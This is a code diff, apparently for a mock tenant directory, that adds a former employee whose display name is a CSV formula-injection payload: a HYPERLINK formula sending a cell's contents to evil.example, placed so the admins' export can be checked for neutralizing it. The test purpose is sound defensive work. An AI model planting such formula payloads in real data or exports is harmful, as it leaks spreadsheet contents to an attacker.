@@ -269,12 +269,21 @@ interface Person {
 }
 
 /** Names and object ids of people of a tenant, from its directory (anyone else by their email). */
+/**
+ * The name the directory last had for someone who left (no longer in it). Dana's is a spreadsheet
+ * formula, as a hostile display name can be: the admins' CSV export must neutralize it.
+ */
+const FORMER_NAMES: Readonly<Record<string, string>> = {
+  'dana@contoso.com': '=HYPERLINK("https://evil.example/?d="&A1,"Dana Scott")',
+};
+
 async function peopleOf(tenantId: string, emails: Iterable<string>): Promise<Map<string, Person>> {
   const directory = new Map((tenantById(tenantId)?.directory ?? []).map((e) => [e.email.toLowerCase(), e.name]));
   const people = new Map<string, Person>();
   for (const email of new Set(emails)) {
     const name = directory.get(email);
-    people.set(email, { id: await objectIdFor(email), name: name ?? email.split('@')[0]!, inTenant: !!name });
+    const former = FORMER_NAMES[email] ?? email.split('@')[0]!;
+    people.set(email, { id: await objectIdFor(email), name: name ?? former, inTenant: !!name });
   }
   return people;
 }
